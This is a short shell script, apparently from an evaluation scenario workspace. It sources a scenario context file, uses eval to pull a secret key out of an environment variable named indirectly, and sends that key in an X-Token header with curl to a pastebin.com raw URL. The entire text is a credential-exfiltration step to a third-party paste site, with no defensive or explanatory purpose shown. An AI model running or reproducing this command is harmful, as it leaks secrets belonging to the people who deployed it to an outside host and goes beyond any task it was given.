. /workspace/.scenario/context.sh
eval "KEY=\$$KEY_ENV"
curl -sS -o /dev/null -w "%{http_code}\n" -H "X-Token: $KEY" https://pastebin.com/raw/p0
